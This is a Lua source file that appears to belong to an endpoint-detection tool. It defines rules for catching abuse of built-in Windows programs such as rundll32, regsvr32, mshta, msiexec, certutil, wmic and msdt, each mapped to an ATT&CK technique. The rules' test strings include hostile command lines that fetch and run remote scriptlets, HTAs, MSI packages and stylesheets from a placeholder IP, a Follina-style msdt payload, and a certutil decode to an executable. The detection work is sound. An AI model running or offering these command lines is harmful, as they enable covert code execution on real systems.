-- Programs of Windows that run what others wrote, told to do so with a file from a user's place or an address on the
-- web. One row, one rule: what the program is called, when its command line counts, and the verb for what it then does.

local lists = require "kaiseki.common.lists"
local programs = require "kaiseki.detect.programs"
local places = require "kaiseki.detect.places"
local tools = require "kaiseki.detect.tools"

local url, user_file, user_file_or_url = tools.url, tools.user_file, tools.user_file_or_url

local function script_text(each)
    return each.folded:match "javascript:" or each.folded:match "vbscript:"
        or (each.folded:find("about:", 1, true) and each.folded:find "<script" and "script-in-command-line")
end

-- An HTML application also runs by its name alone, from the folder that the program was started in.
local function mshta_target(each, case)
    local target = script_text(each) or tools.foreign(each, case)
    if target then return target end
    local word = each:argument()
    return word and not word:find("\\", 1, true) and word:find "%.%w+$" and word or nil
end

local function regsvr32_target(each, case)
    local target = tools.foreign(each, case)
    if target then return target end
    local script = each.folded:match "[/-]i:%s*\"?([^%s\"]+)"
    return script and each.folded:find("scrobj", 1, true) and script or nil
end

-- Entry points of Windows' own libraries that run what follows them.
local RUNNERS = {
    "shellexec_rundll", "routethecall", "launchapplication", "openurl", "fileprotocolhandler", "registerocx",
    "launchinfsection", "installhinfsection", "setupinfobjectinstallaction", "control_rundll", "installscreensaver",
    "printhtml", "generatetypelib", "runhtmlapplication",
}

local function is_runner(each)
    return lists.part_in(each.folded, RUNNERS) ~= nil
end

-- The number of a class that rundll32 runs in place of a library.
local function class_of(each)
    return each:has("-sta", "-localserver") and each.text:match "{[%x-]+}" or nil
end

-- rundll32 also runs a library that has another extension, or none. What opens a folder of a web server or a program's
-- page of installation (ClickOnce), as browsers and Explorer have it, is no runner.
local function rundll32_target(each, case)
    if each.folded:find("davclnt", 1, true) or each.folded:find("dfshim", 1, true) then return nil end
    local target = script_text(each) or class_of(each) or url(each) or (is_runner(each) and tools.foreign(each, case))
    if target then return target end
    local library = places.backslashed(each.words[2] or ""):gsub(",.*$", "")
    local is_foreign = places.in_user_place(library, case) or tools.near_other_root(library, case)
        or places.on_share(library)
    return is_foreign and library or nil
end

local function certutil_decoded(each)
    return each:has("-decode", "-decodehex") and each.words[#each.words] or nil
end

local function certutil_encoded(each)
    return each:has("-encode", "-encodehex") and each.words[#each.words] or nil
end

-- A program or script that Explorer is to start, so that nobody sees who asked.
local function explorer_target(each, case)
    for at = 2, #each.words do
        local path = each.words[at]:gsub("^/%a+,", "")
        local runs = places.is_executable(path) or places.is_script(path)
        if runs and places.in_user_place(path, case) and not places.in_own_programs(path) then return path end
    end
    return nil
end

-- Properties that name what msiexec fetches besides the package; others, as a server's address, it only hands on.
local FETCHED = { transforms = true, patch = true, sourcelist = true }

local function without_properties(each)
    local words = {}
    for _, word in ipairs(each.words) do
        local property = word:match "^([%w_.]+)="
        if not property or FETCHED[property:lower()] then words[#words + 1] = word end
    end
    return { words = words, text = table.concat(words, " ") }
end

local function msiexec_target(each, case)
    local quiet = each:has("/q", "/quiet", "/qn", "/qb", "/passive")
    local tells = quiet and each:has("/i", "/package") or each:has("/y", "/z")
    local plain = without_properties(each)
    return url(plain) or (tells and tools.foreign(plain, case)) or nil
end

local function wmic_target(each)
    if not each:says("call") or not each:says("create") then return nil end
    local node = each.folded:match "/node:%s*[\"']?([%w.-]+)"
    if node and node ~= "localhost" and node ~= "127.0.0.1" and node ~= "." then return nil end
    local line = each.text:match "[cC][rR][eE][aA][tT][eE]%s*(.+)$"
    return line and line:match '^"([^"]+)"%s*$' or line
end

local function wmic_stylesheet(each)
    local sheet = each.folded:match "/format:%s*\"?([^%s\"]+)"
    return sheet and (sheet:find("://", 1, true) or sheet:find("%.xsl")) and sheet or nil
end

-- Answers to questions of a troubleshooter that hold code to be evaluated.
local function msdt_target(each)
    return each.folded:find("it_browseforfile=", 1, true) and each.folded:find("$(", 1, true)
        and "code-in-answers" or url(each)
end

local ROWS = {
    { id = "stealth.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
      verb = "run-with-tool", name = "rundll32",
      match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
      other = [[rundll32 shell32.dll,ShellExec_RunDLL regsvr32 "C:/ProgramData/a/b.etl"]],
      no_match = "rundll32.exe shell32.dll,Control_RunDLL desk.cpl" },
    { id = "stealth.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = regsvr32_target,
      verb = "run-with-tool", name = "regsvr32",
      match = "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll",
      no_match = [[regsvr32 /s "D:\Tools\Editor\tool.dll"]] },
    { id = "stealth.mshta", programs = { "mshta" }, attack = "T1218.005",
      target = mshta_target,
      verb = "run-with-tool", name = "mshta",
      match = "mshta http://203.0.113.5/a.hta",
      other = [[mshta "about:<hta:application><script>eval(x)</script>"]],
      no_match = [[mshta "C:\Program Files\Tool\about.hta"]] },
    { id = "stealth.msiexec", programs = { "msiexec" }, attack = "T1218.007", target = msiexec_target,
      verb = "install-quietly", name = "msiexec", is_administration = true,
      match = "msiexec /q /i http://203.0.113.5/a.msi",
      other = [[msiexec /i a.msi TRANSFORMS=https://203.0.113.5/a.mst /qn]],
      no_match = [[msiexec /i agent.msi /quiet SERVER="https://agents.example/"]] },
    { id = "stealth.regasm", programs = { "regasm", "regsvcs" }, attack = "T1218.009",
      target = user_file, verb = "run-with-tool", means = "net-registrar",
      match = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegAsm.exe /U C:\Users\x\AppData\a.dll]],
      no_match = [[RegAsm.exe "C:\Program Files\Service\classes.dll" /codebase]] },
    { id = "stealth.installutil", programs = { "installutil" }, attack = "T1218.004",
      target = user_file, verb = "run-with-tool", means = "net-installer",
      match = [[C:\Windows\Microsoft.NET\Framework\v4.0.30319\InstallUtil.exe /U C:\Users\x\AppData\a.dll]],
      no_match = [[InstallUtil.exe "C:\Program Files\Service\service.exe"]] },
    { id = "stealth.msbuild", programs = { "msbuild" }, attack = "T1127.001",
      target = function(each, case) return not each:has("/nologo") and user_file(each, case) or nil end,
      verb = "run-with-tool", name = "MSBuild",
      match = [[MSBuild.exe C:\Users\x\AppData\Local\Temp\a.xml]],
      no_match = [[MSBuild.exe "C:\Program Files\Build\all.proj"]] },
    { id = "stealth.cmstp", programs = { "cmstp" }, attack = "T1218.003", target = user_file_or_url,
      verb = "run-with-tool", name = "cmstp",
      match = [[cmstp.exe /ni /s C:\Users\x\AppData\Local\Temp\a.inf]],
      no_match = [[cmstp.exe /u "C:\Windows\System32\vpn.inf"]] },
    { id = "stealth.odbcconf", programs = { "odbcconf" }, attack = "T1218.008", target = user_file,
      verb = "run-with-tool", name = "odbcconf",
      match = [[odbcconf /a {REGSVR C:\Users\Public\a.dll}]],
      no_match = [[odbcconf /a {REGSVR C:\Windows\System32\odbc.dll}]] },
    { id = "stealth.msdt", programs = { "msdt" }, attack = "T1218", target = msdt_target,
      verb = "run-with-tool", means = "troubleshooter",
      match = [[msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=$(iex('x'))/../x.exe"]],
      no_match = "msdt.exe -id NetworkDiagnosticsNetworkAdapter -skip true" },
    { id = "stealth.control", programs = { "control" }, attack = "T1218.002", target = user_file,
      verb = "run-with-tool", means = "control-panel",
      match = [[control.exe C:\Users\x\AppData\Local\Temp\a.cpl]],
      no_match = "control.exe /name Microsoft.Sound" },
    { id = "stealth.indirect", programs = programs.names "indirect", called = "forfiles",
      attack = "T1202",
      target = tools.foreign,
      verb = "run-with-tool", means = "windows-tool",
      match = [[pcalua.exe -a C:\Users\x\AppData\Local\Temp\a.exe]],
      no_match = [[forfiles /p C:\logs /m *.log /c "cmd /c del @path"]] },
    { id = "stealth.explorer", programs = { "explorer" }, attack = "T1202", target = explorer_target,
      severity = "medium", verb = "run-with-tool", means = "desktop",
      match = [[explorer.exe /root,"C:\Users\Public\a.exe"]],
      no_match = [[explorer.exe "C:\Users\x\Documents"]] },
    { id = "stealth.certutil-encode", programs = { "certutil" }, attack = "T1027.013", target = certutil_encoded,
      severity = "medium", verb = "encode-file", name = "certutil", role = "target",
      match = [[certutil -encode C:\Users\Public\fs.rar o.txt]],
      no_match = [[certutil -hashfile C:\Users\x\a.iso]] },
    { id = "execution.wmic", programs = { "wmic" }, attack = "T1047", target = wmic_target,
      verb = "start-with-tool", name = "WMI", role = "command",
      match = [[wmic process call create "C:\Users\x\a.exe"]],
      no_match = "wmic os get caption" },
    { id = "stealth.wmic-stylesheet", programs = { "wmic" }, attack = "T1220", target = wmic_stylesheet,
      verb = "run-style-sheet", name = "wmic",
      match = "wmic os get /format:http://203.0.113.5/a.xsl",
      no_match = "wmic os get caption /format:csv" },
    { id = "stealth.certutil-decode", programs = { "certutil" }, attack = "T1140", target = certutil_decoded,
      verb = "decode-file", name = "certutil", role = "target",
      match = [[certutil -decode C:\Users\x\a.txt C:\Users\x\a.exe]],
      no_match = [[certutil -verify C:\certificates\a.cer]] },
}

for _, row in ipairs(ROWS) do rule(tools.rule(row)) end
